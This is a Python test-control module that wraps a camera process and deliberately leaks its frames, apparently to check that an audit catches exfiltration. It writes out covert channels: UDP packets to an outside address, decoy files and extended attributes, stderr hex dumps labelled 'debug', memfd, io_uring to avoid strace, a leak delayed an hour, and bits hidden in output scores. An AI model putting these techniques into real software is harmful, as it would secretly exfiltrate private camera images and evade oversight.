"""The camera process with leaks planted in it, and without its jail: a control of the audit.

    python -m edge.audit.leaks.leaking_vision vision's options

It is the code of `vision`, loaded by name because `edge` never imports it, with its first
picture in hand. Which leaks it plants is named by the environment (`leak.VARIABLE`).
"""

from __future__ import annotations

import ctypes
import importlib
import mmap
import os
import socket
import sys
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

from edge.audit.canary.markers import STRIP_PX, TURN_CELL_PX
from edge.audit.leaks.addresses import PLANTED_FILE, SOMEWHERE
from edge.audit.leaks.leak import VARIABLE
from edge.audit.leaks.unreached import OldThread
from firmware_cfg.confine.native import system_call
from firmware_cfg.confine.seccomp import number_of
from firmware_cfg.load import load_site
from firmware_cfg.record import pack, unpack
from firmware_cfg.record_layout import LAYOUT

AN_HOUR_US = 3_600_000_000
_kept: list[object] = []


def to_disk(picture: bytes) -> None:
    """The picture, compressed, into a file of a shared folder."""
    PLANTED_FILE.write_bytes(zlib.compress(picture, 1))


def to_attribute(picture: bytes) -> None:
    """Some rows of the picture into an extended attribute."""
    file = Path.home() / "innocent"
    file.touch()
    begin = len(picture) // 240 * STRIP_PX
    os.setxattr(file, "user.icon", picture[begin : begin + 3000])


def to_socket(picture: bytes) -> None:
    """A packet to an address on the internet."""
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.sendto(picture[:1000], SOMEWHERE)


def to_unix(picture: bytes) -> None:
    """A socket of this machine, kept open."""
    _kept.extend(socket.socketpair())
    os.write(_kept[-1].fileno(), picture[:100])  # type: ignore[attr-defined] # a socket


def to_inherited(picture: bytes) -> None:
    """Rows of the picture, as hexadecimal text, to the descriptor of the messages."""
    begin = len(picture) // 240 * STRIP_PX
    os.write(2, b"debug: " + picture[begin : begin + 1248].hex().encode() + b"\n")


def to_memory(picture: bytes) -> None:
    """Memory without a name, which another process can be handed."""
    memory = os.memfd_create("picture")
    os.truncate(memory, mmap.PAGESIZE)
    shared = mmap.mmap(memory, mmap.PAGESIZE)
    shared.write(picture[:1000])
    _kept.append(shared)


def by_ring(_picture: bytes) -> None:
    """A ring by which the kernel writes and sends without any call that strace could see."""
    number = number_of("io_uring_setup")
    parameters = (ctypes.c_uint64 * 32)()
    if number is not None:
        _kept.append(system_call(number, 1, ctypes.addressof(parameters)))


AT_ONCE: dict[str, Callable[[bytes], None]] = {
    "frame-to-disk": to_disk,
    "frame-in-attribute": to_attribute,
    "socket": to_socket,
    "unix-socket": to_unix,
    "inherited-descriptor": to_inherited,
    "memfd": to_memory,
    "io-uring": by_ring,
}


class Planted:
    """A source that leaks what it reads; otherwise the source that it stands before."""

    def __init__(self, source: Any, leaks: frozenset[str]) -> None:
        """Stand before `source`."""
        self._source, self._leaks = source, leaks
        self._done = False
        self._old = OldThread() if leaks & {"old-thread-file", "old-thread-socket"} else None
        self.turns: dict[int, bool] = {}

    def read(self, earliest_us: int = 0) -> Any:
        """The next frame, leaked on its way."""
        frame = self._source.read(earliest_us)
        if frame is not None:
            corner = frame.picture_bgr[STRIP_PX // 2, TURN_CELL_PX // 2, 1]
            self.turns[frame.index] = bool(corner >= 128)
            self._leak(frame)
        return frame

    def _leak(self, frame: Any) -> None:
        late = "only-after-an-hour" in self._leaks
        if self._done or (late and frame.t_us < AN_HOUR_US):
            return
        self._done = True
        picture = frame.picture_bgr.tobytes()
        if late:
            to_disk(picture)
        for name in self._leaks & AT_ONCE.keys():
            AT_ONCE[name](picture)
        if self._old is not None:
            self._old.leak(picture)


def with_low_bit(data: bytes, turn: bool) -> bytes:
    """The record with a bit of the picture in the last bit of its first person's score."""
    record = unpack(data)
    if not len(record.scores):
        return data
    scores = record.scores.copy()
    step = 1 / LAYOUT.score_steps
    even = round(scores[0] / step) // 2 * 2
    scores[0] = min(1.0, (even + turn) * step)
    return pack(replace(record, scores=scores))


def main() -> int:
    """Run vision's pipeline, unconfined, with the leaks."""
    leaks = frozenset(os.environ.get(VARIABLE, "").split(","))
    if "telemetry" not in leaks:
        importlib.import_module("vision.environment").settle_libraries()
    command = importlib.import_module("vision.command")
    options = command.parser().parse_args()
    pipeline = command.build(options, load_site(options.site))
    source = Planted(pipeline.source, leaks)

    def write(data: bytes) -> object:
        if "record-low-bits" in leaks:
            data = with_low_bit(data, source.turns[unpack(data).frame])
        return pipeline.write(data)

    replace(pipeline, source=source, write=write).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
